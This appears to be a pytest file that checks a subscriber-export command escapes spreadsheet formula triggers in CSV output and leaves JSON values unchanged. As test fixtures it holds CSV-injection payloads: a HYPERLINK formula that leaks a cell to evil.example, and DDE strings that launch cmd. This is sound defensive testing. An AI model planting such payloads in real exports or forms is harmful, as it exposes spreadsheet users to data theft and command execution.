"""`--export-subscribers`: what buyers typed reaches a spreadsheet as text, never as a formula to run."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import boto3
import pytest

from local.stack_template import ListingTemplate
from operations import export
from tests.cli.test_operations import aws  # noqa: F401 - moto and test credentials, as a fixture
from tests.infrastructure.conftest import config_with, listing
from tests.integration.conftest import templates  # noqa: F401 - the synthesized tables, as a fixture

# What a buyer may type into the form's free-text fields, each starting with a character a spreadsheet reads
# as the start of a formula (OWASP "CSV Injection").
HOSTILE = {
    "111122223301": '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "111122223302": "@SUM(1+1)*cmd|' /C calc'!A0",
    "111122223303": "+1+1",
    "111122223304": "-2+3",
    "111122223305": "\t=1+1",
    "111122223306": "\r=1+1",
}
PLAIN = {"111122223307": "Acme Learning Ltd", "111122223308": "O'Brien & Co - Partners"}


@pytest.fixture
def exported(
    aws: None,  # noqa: F811 - the fixture imported above
    templates: dict[str, ListingTemplate],  # noqa: F811 - the fixture imported above
    tmp_path: Path,
) -> dict[str, str]:
    """Given subscribers whose company names start like formulas, both exports, by format."""
    dynamodb = boto3.client("dynamodb")
    for table in templates["onboard"].tables:
        dynamodb.create_table(**table.create_request)
    subscribers = boto3.resource("dynamodb").Table("codio-marketplace-subscribers-onboard")
    for account, company in {**HOSTILE, **PLAIN}.items():
        subscribers.put_item(
            Item={
                "customerAWSAccountId": account,
                "subscriptionKey": "l-1",
                "status": "active",
                "companyName": company,
                "contactPerson": "=cmd|' /C notepad'!A1",
                "contactEmail": "jane@example.com",
                "contactPhone": "+1 555 010 2030",
                "registrationDate": "2026-11-23T00:00:00+00:00",
            }
        )
    config = config_with(listing("onboard", "PROD_ONBOARD"))
    files = {}
    for fmt in ("csv", "json"):
        target = tmp_path / f"subscribers.{fmt}"
        export.export_subscribers(config, "onboard", local=False, fmt=fmt, output=str(target))
        with target.open(encoding="utf-8", newline="") as handle:  # no newline translation
            files[fmt] = handle.read()
    return files


def test_csv_cells_that_start_like_a_formula_are_exported_as_text(exported: dict[str, str]) -> None:
    rows = {
        row["customerAWSAccountId"]: row for row in csv.DictReader(io.StringIO(exported["csv"], newline=""))
    }
    for account, company in HOSTILE.items():
        assert rows[account]["companyName"] == "'" + company
        assert rows[account]["contactPerson"] == "'=cmd|' /C notepad'!A1"
        # A phone number's leading + is neutralised too: a spreadsheet would compute `+1 555 ...` otherwise.
        assert rows[account]["contactPhone"] == "'+1 555 010 2030"
    for account, company in PLAIN.items():
        assert rows[account]["companyName"] == company
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(export.FORMULA_TRIGGERS), row


def test_json_keeps_every_value_exactly_as_stored(exported: dict[str, str]) -> None:
    rows = {row["customerAWSAccountId"]: row for row in json.loads(exported["json"])}
    for account, company in {**HOSTILE, **PLAIN}.items():
        assert rows[account]["companyName"] == company
        assert rows[account]["contactPerson"] == "=cmd|' /C notepad'!A1"
        assert rows[account]["contactPhone"] == "+1 555 010 2030"
